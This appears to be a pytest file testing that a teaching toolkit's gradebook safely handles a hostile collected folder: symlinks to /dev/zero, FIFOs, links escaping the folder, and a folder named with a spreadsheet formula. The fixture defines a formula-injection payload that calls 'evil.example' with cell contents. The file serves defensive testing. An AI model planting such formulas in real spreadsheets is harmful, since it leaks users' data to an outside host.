"""Issue 17, finding 4: the gradebook does not trust the collected folder.

A symlink to /dev/zero, a FIFO, links pointing outside the folder and a folder named like a
spreadsheet formula. The gradebook runs in a child process with a timeout, so a regression
fails the test instead of hanging it or eating the machine's memory.
"""

from __future__ import annotations

import csv
import os
import subprocess
import sys

import pytest

from toolkit.exercises import Exercise
from toolkit.authoring.spreadsheet import spreadsheet_safe
from tests.conftest import ROOT

pytestmark = pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="POSIX links and FIFOs")

FORMULA = '=HYPERLINK("evil.example?"&A1,"click me")'


def rows(path):
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


@pytest.fixture
def hostile_class(tmp_path, monkeypatch):
    folder = tmp_path / "collected"
    monkeypatch.setenv("TOOLKIT_WORK_DIR", str(folder))
    monkeypatch.setenv("TOOLKIT_PROJECT_ROOT", str(ROOT))
    Exercise("03-readability", student="ada").check("q1", "13.05")
    outside = tmp_path / "teacher-private"
    (outside / "progress").mkdir(parents=True)
    (outside / "progress" / "03-readability.json").write_text('{"secret": "marks of another class"}')
    (folder / "zero" / "progress").mkdir(parents=True)
    (folder / "zero" / "progress" / "03-readability.json").symlink_to("/dev/zero")
    (folder / "pipe" / "progress").mkdir(parents=True)
    os.mkfifo(folder / "pipe" / "progress" / "03-readability.json")
    (folder / "leak" / "progress").mkdir(parents=True)
    (folder / "leak" / "progress" / "03-readability.json").symlink_to(outside / "progress" / "03-readability.json")
    (folder / "linked-student").symlink_to(outside, target_is_directory=True)
    (folder / "linked-kind").mkdir()
    (folder / "linked-kind" / "progress").symlink_to(outside / "progress", target_is_directory=True)
    formula = folder / FORMULA
    (formula / "progress").mkdir(parents=True)
    ada_file = folder / "ada" / "progress" / "03-readability.json"
    (formula / "progress" / "03-readability.json").write_text(
        ada_file.read_text(encoding="utf-8").replace('"student": "ada"', '"student": null'), encoding="utf-8")
    return folder


def run_gradebook(folder, out, timeout=120):
    code = ("import sys; from pathlib import Path; from toolkit.authoring.gradebook import gradebook; "
            "book = gradebook(Path(sys.argv[1]), out=Path(sys.argv[2]), root=Path(sys.argv[3])); "
            "print('\\n'.join(book.problems))")
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    # bounded in time and memory: a file read without limit or a FIFO opened for reading fails here
    limit = "import resource; resource.setrlimit(resource.RLIMIT_AS, (3 << 30, 3 << 30)); "
    return subprocess.run([sys.executable, "-c", limit + code, str(folder), str(out), str(ROOT)], env=env,
                          capture_output=True, text=True, timeout=timeout)


def test_devices_fifos_and_links_out_are_skipped_and_reported(hostile_class, tmp_path):
    result = run_gradebook(hostile_class, tmp_path / "grades")
    assert result.returncode == 0, result.stderr[-3000:]
    problems = result.stdout
    assert "zero/progress/03-readability.json: a link pointing outside the collected folder" in problems
    assert "pipe/progress/03-readability.json: not a regular file" in problems
    assert "leak/progress/03-readability.json: a link pointing outside the collected folder" in problems
    assert "linked-student: a link pointing outside the collected folder" in problems
    assert "linked-kind/progress: a link pointing outside" in problems or "linked-kind: not a student" in problems
    graded = {row["student"] for row in rows(tmp_path / "grades" / "gradebook.csv")}
    assert "ada" in graded and not graded & {"zero", "pipe", "leak", "linked-student", "linked-kind"}
    assert "another class" not in (tmp_path / "grades" / "questions.csv").read_text(encoding="utf-8")


def test_a_folder_named_like_a_formula_is_text_in_every_csv(hostile_class, tmp_path):
    result = run_gradebook(hostile_class, tmp_path / "grades")
    assert result.returncode == 0, result.stderr[-3000:]
    for name in ("gradebook.csv", "questions.csv", "students.csv"):
        for row in rows(tmp_path / "grades" / name):
            for value in row.values():
                assert not value or value[0] not in "=+-@\t\r", (name, value)
    students = {row["folder"] for row in rows(tmp_path / "grades" / "students.csv")}
    assert "'" + FORMULA in students
    assert "'" + FORMULA in {row["student"] for row in rows(tmp_path / "grades" / "gradebook.csv")}


@pytest.mark.parametrize("text, safe", [
    ("=1+1", "'=1+1"), ("+SUM(A1)", "'+SUM(A1)"), ("-2+3", "'-2+3"), ("@cmd", "'@cmd"), ("\t=x", "'\t=x"),
    (" =x", "' =x"), ("ada", "ada"), ("", ""), ("a=b", "a=b"), ("김민준", "김민준"),
])
def test_spreadsheet_safe(text, safe):
    assert spreadsheet_safe(text) == safe
